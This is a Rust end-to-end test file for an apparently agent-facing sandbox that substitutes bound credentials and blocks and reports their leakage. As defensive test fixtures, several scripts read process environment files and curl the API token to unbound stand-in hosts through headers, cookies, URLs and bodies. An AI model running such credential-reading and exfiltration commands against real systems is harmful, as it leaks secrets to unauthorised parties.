//! Secrets that are used for the agent, and that it never holds.
#![allow(clippy::unwrap_used)]

use creel_e2e::{Scene, Shown, Upstream};
use std::fs;
use std::path::PathBuf;

const SECRET: &str = "ghp_RealSecret0123456789abcdefghijklmn";

const RULES: &str = r#"
credentials:
  - { name: api, secret: "file:FILE", env: API_TOKEN }
network:
  rules:
    - { name: bound, to: [api.test], http: { allow: ["* /**"] }, credential: api }
    - { name: free, to: [other.test, "plain.test:80"], http: { allow: ["* /**"] } }
    - { name: curl-only, to: [tool.test], from: ["/usr/bin/curl"], credential: api }
    - { name: anybody, to: [tool.test], http: { allow: ["* /**"] } }
"#;

/// A sandbox whose credential is in a file outside of it, with an upstream behind every name of the rules.
struct Bound {
    scene: Scene,
    upstream: Upstream,
    file: PathBuf,
}

impl Bound {
    fn new() -> Self {
        let names = ["api.test", "other.test", "tool.test"];
        let upstream = Upstream::start(&names);
        let scene = Scene::new();
        let (ca, file) = (upstream.ca_file(scene.outside()), scene.outside().join("token"));
        fs::write(&file, format!("{SECRET}\n")).unwrap();
        let rules = RULES.replace("FILE", &file.display().to_string());
        let mut scene = scene.policy(&rules).with("--trust", ca);
        for name in names {
            scene = scene.with("--resolve", format!("{name}={}", upstream.tls));
        }
        let scene = scene.with("--resolve", format!("plain.test={}", upstream.plain));
        Self { scene, upstream, file }
    }

    fn header(&self, name: &str) -> Vec<String> {
        let seen = self.upstream.seen();
        let all = seen.iter().flat_map(|seen| seen.headers.iter().filter(|(key, _)| key == name));
        all.map(|(_, value)| value.clone()).collect()
    }

    fn alarms(&self) -> Vec<String> {
        let text = self.scene.events().into_iter().map(|event| event.to_string());
        text.filter(|event| event.contains("a credential went where it has no business")).collect()
    }

    /// Nothing that anybody can read later has the secret in it.
    #[track_caller]
    fn never_seen(&self, shown: &Shown) {
        let record = fs::read_to_string(self.scene.record()).unwrap();
        for text in [&shown.stdout, &shown.stderr, &record] {
            assert!(!text.contains(SECRET), "{text}");
        }
    }
}

#[test]
fn the_placeholder_becomes_the_secret_where_a_rule_binds_it_and_the_secret_the_placeholder_on_the_way_back() {
    let bound = Bound::new();
    let shown = bound
        .scene
        .sh("echo $API_TOKEN
curl -sSi --http1.1 -H \"Authorization: token $API_TOKEN\" https://api.test/echo
curl -sSi -H \"Authorization: Bearer $API_TOKEN\" -d \"{\\\"key\\\":\\\"$API_TOKEN\\\"}\" \"https://api.test/echo?key=$API_TOKEN\"
curl -sS -u \"ada:$API_TOKEN\" https://api.test/basic
env; cat /proc/self/environ /proc/1/environ 2>/dev/null | tr '\\0' '\\n'")
        .ok();
    let placeholder = shown.stdout.lines().next().unwrap();
    assert!(placeholder.starts_with("ghp_") && placeholder.len() == SECRET.len(), "{placeholder}");
    let basic = {
        use std::process::{Command, Stdio};
        let encoded = Command::new("sh")
            .args(["-c", &format!("printf 'ada:{SECRET}' | base64 -w0")])
            .stdout(Stdio::piped())
            .output()
            .unwrap();
        format!("Basic {}", String::from_utf8(encoded.stdout).unwrap())
    };
    assert_eq!(bound.header("authorization"), [format!("token {SECRET}"), format!("Bearer {SECRET}"), basic]);
    let seen = &bound.upstream.seen()[1];
    assert_eq!(seen.line, format!("POST /echo?key={SECRET}"));
    assert_eq!(seen.text, format!("{{\"key\":\"{SECRET}\"}}"));
    assert_eq!(shown.stdout.matches(&format!("x-echo: token {placeholder}")).count(), 1, "{}", shown.stdout);
    assert!(shown.stdout.contains(&format!("POST /echo?key={placeholder}\n")), "{}", shown.stdout);
    assert!(shown.stdout.contains(&format!("{{\"key\":\"{placeholder}\"}}")), "{}", shown.stdout);
    bound.never_seen(&shown);
    assert_eq!(bound.alarms(), Vec::<String>::new());
}

#[test]
fn the_placeholder_goes_nowhere_else_and_whoever_tries_is_reported() {
    let bound = Bound::new();
    let shown = bound.scene.sh(
        "for try in '-H X-Key:KEY' '-u a:KEY' '--cookie k=KEY' '-G -d k=KEY' '--http1.1 -d k=KEY' '-d k=KEY'; do
  curl -sS -o /dev/null -w '%{http_code}\\n' $(echo $try | sed s/KEY/$API_TOKEN/) https://other.test/x
done
curl -sS -o /dev/null -w '%{http_code}\\n' https://other.test/$API_TOKEN
curl -sS -o /dev/null -w '%{http_code}\\n' -H \"X-Key: $API_TOKEN\" http://plain.test/
curl -sS -o /dev/null -w '%{http_code}\\n' https://other.test/clean",
    );
    let codes: Vec<&str> = shown.stdout.lines().collect();
    assert_eq!(codes.len(), 9, "{shown:?}");
    assert!(codes[..8].iter().all(|code| *code != "200"), "{shown:?}");
    assert_eq!(codes[8], "200");
    let placeholder_seen = |text: &str| text.contains("ghp_");
    for seen in bound.upstream.seen() {
        let fields = seen.headers.iter().any(|(_, value)| placeholder_seen(value));
        assert!(!placeholder_seen(&seen.line) && !placeholder_seen(&seen.text) && !fields, "{seen:?}");
    }
    let alarms = bound.alarms();
    assert_eq!(alarms.len(), 8, "{alarms:?}");
    assert!(alarms.iter().all(|alarm| alarm.contains("credential `api`")), "{alarms:?}");
    bound.never_seen(&shown);
}

#[test]
fn the_secret_itself_leaves_nowhere_even_where_it_is_bound() {
    let bound = Bound::new();
    let script = format!(
        "for host in api.test other.test; do curl -sS -o /dev/null -w '%{{http_code}}\\n' -H 'X-Key: {SECRET}' https://$host/; done"
    );
    let shown = bound.scene.sh(&script).ok();
    assert_eq!(shown.stdout, "403\n403\n");
    assert_eq!(bound.upstream.seen(), []);
    let alarms = bound.alarms();
    assert!(
        alarms.len() == 2 && alarms.iter().all(|a| a.contains("nobody inside should know it")),
        "{alarms:?}"
    );
}

#[test]
fn a_secret_that_the_agent_writes_into_what_is_refused_is_not_written_down() {
    let bound = Bound::new();
    // Of no shape that anybody would take for a key.
    let secret = "correct-horse-battery-staple";
    fs::write(&bound.file, secret).unwrap();
    let script = format!(
        "for url in https://api.test/p/{secret} https://nobody.test/{secret} https://other.test/x?k={secret}; do
  curl -sS -o /dev/null -w '%{{http_code}}\n' $url
done"
    );
    let shown = bound.scene.sh(&script).ok();
    assert_eq!(shown.stdout, "403\n403\n403\n");
    let record = fs::read_to_string(bound.scene.record()).unwrap();
    let masked = "*".repeat(secret.len());
    assert!(record.lines().filter(|line| line.contains(&masked)).count() >= 2, "{record}");
    // What is executed says it; nobody else does.
    let told: Vec<&str> = record.lines().filter(|line| line.contains(secret)).collect();
    assert!(told.iter().all(|line| line.contains("\"exec\"") || line.contains("\"start\"")), "{told:?}");
}

#[test]
fn without_credentials_a_key_in_the_environment_goes_wherever_the_agent_sends_it() {
    let upstream = Upstream::start(&["other.test"]);
    let scene = Scene::new();
    let ca = upstream.ca_file(scene.outside());
    let scene = scene
        .policy("network:\n  rules:\n    - { name: free, to: [other.test], http: { allow: [\"* /**\"] } }")
        .with("--trust", ca)
        .with("--resolve", format!("other.test={}", upstream.tls))
        .with("--env", format!("API_TOKEN={SECRET}"));
    scene.sh("curl -sS -H \"X-Key: $API_TOKEN\" https://other.test/").ok();
    assert!(upstream.seen()[0].headers.contains(&("x-key".into(), SECRET.into())));
}

#[test]
fn a_credential_is_bound_to_the_program_of_its_rule() {
    let bound = Bound::new();
    let python = "python3 -c 'import os, urllib.request as u
try: print(u.urlopen(u.Request(\"https://tool.test/py\", headers={\"X-Key\": os.environ[\"API_TOKEN\"]})).status)
except Exception as e: print(e)'";
    let shown =
        bound.scene.sh(&format!("curl -sS -H \"X-Key: $API_TOKEN\" https://tool.test/curl; {python}")).ok();
    assert!(shown.stdout.contains("403"), "{}", shown.stdout);
    assert_eq!(bound.upstream.lines(), ["GET /curl"]);
    assert_eq!(bound.header("x-key"), [SECRET]);
}

#[test]
fn an_answer_that_cannot_be_read_is_not_handed_on() {
    let bound = Bound::new();
    let shown = bound.scene.sh("curl -sS -o /dev/null -w '%{http_code}' https://api.test/gzip").ok();
    assert_eq!(shown.stdout, "502");
    assert_eq!(bound.header("accept-encoding"), ["identity"]);
}

#[test]
fn a_credential_is_exchanged_and_unbound_while_the_agent_runs() {
    let bound = Bound::new();
    let ask = "curl -sS -o /dev/null -w '%{http_code}\\n' -H \"X-Key: $API_TOKEN\" https://api.test/";
    let script = format!(
        "{ask}; until [ -e one ]; do sleep 0.05; done; {ask}; until [ -e two ]; do sleep 0.05; done; {ask}"
    );
    let running = bound.scene.start(&["/bin/sh", "-c", &script]);
    creel_e2e::wait_until("the first request", || bound.upstream.seen().len() == 1);
    let name = bound.scene.name.clone();
    let policy = bound.scene.outside().join("policy.yaml").display().to_string();
    let exchanged = SECRET.to_uppercase().replace("GHP_", "ghp_");
    fs::write(&bound.file, &exchanged).unwrap();
    bound.scene.verb(&["policy", "set", &name, &policy]).ok();
    fs::write(bound.scene.workspace().join("one"), "").unwrap();
    creel_e2e::wait_until("the second request", || bound.upstream.seen().len() == 2);
    assert_eq!(bound.header("x-key"), [SECRET, &exchanged]);
    fs::write(&bound.file, "ghp_another0length0123456789").unwrap();
    let refused = bound.scene.verb(&["policy", "set", &name, &policy]);
    assert!(refused.code != 0 && refused.stderr.contains("start the sandbox anew"), "{refused:?}");
    let text = RULES.replace("FILE", &bound.file.display().to_string());
    let unbound = text.replacen(", credential: api }", " }", 1);
    fs::write(&bound.file, &exchanged).unwrap();
    let policy = bound.scene.write_policy("unbound.yaml", &unbound).display().to_string();
    bound.scene.verb(&["policy", "set", &name, &policy]).ok();
    fs::write(bound.scene.workspace().join("two"), "").unwrap();
    let shown = running.finish();
    assert_eq!(shown.stdout, "200\n200\n403\n", "{shown:?}");
    assert_eq!(bound.upstream.seen().len(), 2);
}

#[test]
fn a_secret_that_cannot_be_had_stops_the_start_and_says_so() {
    let bound = Bound::new();
    for (content, said) in
        [(None, "token"), (Some("hunter2"), "fewer than"), (Some("two\nlines of text 0123456"), "one line")]
    {
        match content {
            None => fs::remove_file(&bound.file).unwrap(),
            Some(content) => fs::write(&bound.file, content).unwrap(),
        }
        let shown = bound.scene.sh("echo started");
        assert_eq!((shown.code, shown.stdout.as_str()), (125, ""), "{shown:?}");
        assert!(shown.stderr.contains(said) && !shown.stderr.contains("hunter2"), "{}", shown.stderr);
    }
}

#[test]
fn an_answer_that_switches_protocols_does_not_give_the_secret_away_in_its_head() {
    let bound = Bound::new();
    let shown = bound.scene.sh(
        "curl -sSi -m 3 --http1.1 -H 'Connection: upgrade' -H 'Upgrade: websocket' -H \"Authorization: token $API_TOKEN\" \
         https://api.test/upgrade; true",
    );
    assert!(shown.stdout.starts_with("HTTP/1.1 101"), "{shown:?}");
    assert_eq!(bound.header("authorization"), [format!("token {SECRET}")]);
    bound.never_seen(&shown);
}
